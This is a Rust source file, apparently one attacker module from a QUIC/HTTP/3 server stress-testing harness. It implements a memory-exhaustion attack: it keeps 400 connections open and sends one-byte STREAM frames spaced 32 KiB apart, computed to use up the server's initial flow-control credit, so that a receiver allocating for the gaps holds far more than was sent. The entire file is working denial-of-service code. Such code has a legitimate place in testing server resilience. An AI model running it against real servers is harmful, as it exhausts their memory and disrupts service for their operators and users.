//! Single bytes of streams, far apart: a receiver that allocates room for the gaps holds
//! thousands of times what was sent.

use std::io;
use std::time::Duration;

use clearway_quic::connection::{Config, Connection};

use super::sockets::{Sockets, Traffic};
use super::swarm::Swarm;
use super::wire::put_stream;
use super::{Attacker, Context};

const CONNECTIONS: usize = 400;

/// Distance between two fragments, bytes.
const GAP: u64 = 32 << 10;

/// STREAM frames in a packet.
const FRAMES: usize = 32;

const PING_EVERY: Duration = Duration::from_secs(5);

/// Sends one-byte STREAM frames until the server's initial credit is used up.
pub(crate) struct Fragments {
    swarm: Swarm<Sown>,
    fragments: u64,
}

/// Whether a connection has sent its fragments.
#[derive(Default)]
struct Sown(bool);

impl Fragments {
    pub(crate) fn new(context: &Context) -> io::Result<Self> {
        let sockets = Sockets::bind(context.number, 0, CONNECTIONS / 4)?;
        Ok(Self {
            swarm: Swarm::new(context.server, sockets, Config::default())?,
            fragments: 0,
        })
    }
}

impl Attacker for Fragments {
    fn turn(&mut self, packets: u64) {
        self.swarm.keep(CONNECTIONS);
        self.swarm.step();
        for _ in 0..packets.min(self.swarm.established() as u64) {
            let Some(handle) = self.swarm.next_ready() else {
                break;
            };
            let Some(member) = self.swarm.get(handle) else {
                break;
            };
            if std::mem::replace(&mut member.state.0, true) {
                continue;
            }
            for places in places(&member.connection).chunks(FRAMES) {
                let mut payload = Vec::new();
                for &(id, offset) in places {
                    put_stream(&mut payload, id, offset, b"x");
                }
                self.fragments += places.len() as u64;
                self.swarm.forge(handle, &payload);
            }
        }
        self.swarm.refresh(PING_EVERY, packets);
    }

    fn traffic(&self) -> Traffic {
        self.swarm.traffic()
    }

    fn held(&self) -> usize {
        self.swarm.established()
    }

    fn note(&self) -> String {
        format!(
            "{} bytes, {GAP} apart; {}",
            self.fragments,
            self.swarm.closures()
        )
    }
}

/// Streams and offsets that use up the server's initial credit.
fn places(connection: &Connection) -> Vec<(u64, u64)> {
    let Some(granted) = connection.peer_transport_parameters() else {
        return Vec::new();
    };
    let window = granted.initial_max_stream_data_bidi_remote;
    // HTTP/3's own streams use a little of it.
    let mut credit = granted.initial_max_data.saturating_sub(GAP);
    let mut places = Vec::new();
    for stream in 0..granted.initial_max_streams_bidi {
        let reach = window.min(credit);
        if reach < GAP {
            break;
        }
        credit -= reach;
        // Every fourth stream ID is a client's bidirectional stream.
        places.extend((1..=reach / GAP).map(|n| (4 * stream, n * GAP - 1)));
    }
    places
}
